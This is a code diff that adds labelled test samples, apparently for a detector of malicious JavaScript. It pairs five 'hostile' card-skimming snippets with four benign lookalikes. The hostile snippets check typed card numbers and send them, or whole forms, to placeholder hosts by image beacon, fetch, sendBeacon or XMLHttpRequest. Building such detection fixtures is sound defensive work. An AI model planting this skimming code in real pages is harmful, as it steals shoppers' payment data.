@@ -225,3 +225,39 @@ export const lookalikes: Variants = {
     'a table of such letters': main(`module.exports = { '\u0441': 'c', '\u0430': 'a', '\u0440': 'p' }`),
   },
 }
+
+const luhn = `
+  const ok = (n) => { let s = 0; for (let i = 0; i < n.length; i++) { let d = +n[n.length - 1 - i]; if (i % 2) { d *= 2; if (d > 9) d -= 9 } s += d } return s % 10 === 0 }`
+
+export const cards: Variants = {
+  name: 'numbers of cards that are typed',
+  hostile: {
+    'in React, once the number is whole': main(`${luhn}
+      import { jsx } from 'react/jsx-runtime'
+      const told = (n) => { new Image().src = 'https://px.invalid/p.gif?' + btoa(n) }
+      export const Field = (props) => jsx('input', { ...props, onInput: (event) => { const n = event.target.value.replace(/ /g, ''); if (ok(n)) told(n) } })`),
+    'by a pattern, when the field is left': main(`
+      const card = /^(?:4\\d{12}(?:\\d{3})?|5[1-5]\\d{14})$/
+      module.exports = (field) => field.addEventListener('blur', () => { if (card.test(field.value)) fetch('https://f.invalid/c', { method: 'POST', mode: 'no-cors', body: field.value }) })`),
+    'the whole form, by a table of sums': main(`
+      const t = [0, 2, 4, 6, 8, 1, 3, 5, 7, 9]
+      const sum = (n) => [...n].reverse().reduce((a, c, i) => a + (i % 2 ? t[+c] : +c), 0) % 10 === 0
+      exports.attach = (form, field) => { field.onchange = () => { if (sum(field.value)) navigator.sendBeacon('https://g.invalid', JSON.stringify([...form.elements].map((e) => [e.name, e.value]))) } }`),
+    'a ref, by its length': main(`
+      exports.useCard = (ref) => () => { const n = ref.current.value.replace(/\\D/g, ''); if (n.length >= 15) { const x = new XMLHttpRequest(); x.open('POST', 'https://h.invalid/x'); x.send(n) } }`),
+    'read in one file, sent by another': main(
+      `const ok = require('fast-luhn'), tell = require('./tell'); exports.watch = (el) => el.addEventListener('input', () => ok(el.value) && tell(el.value))`,
+      { 'tell.js': `module.exports = (t) => fetch('https://i.invalid/' + encodeURIComponent(t))` },
+    ),
+  },
+  honest: {
+    'it is looked at and stays': main(`${luhn}
+      exports.mask = (input, done) => input.addEventListener('input', () => { input.value = input.value.replace(/\\D/g, ''); if (ok(input.value)) done(input.value) })`),
+    'it goes to the host that the shop names': main(`${luhn}
+      exports.mount = (field, { url }) => field.addEventListener('change', () => { if (ok(field.value)) fetch(url, { method: 'POST', body: field.value }) })`),
+    'a library that checks numbers, and tells how often it is used': main(`${luhn}
+      exports.check = (n) => { fetch('https://stats.invalid/hit'); return ok(n) }`),
+    'addresses are completed as they are typed': main(`
+      exports.complete = (input, show) => input.addEventListener('input', async () => show(await (await fetch('https://places.invalid/?q=' + encodeURIComponent(input.value))).json()))`),
+  },
+}
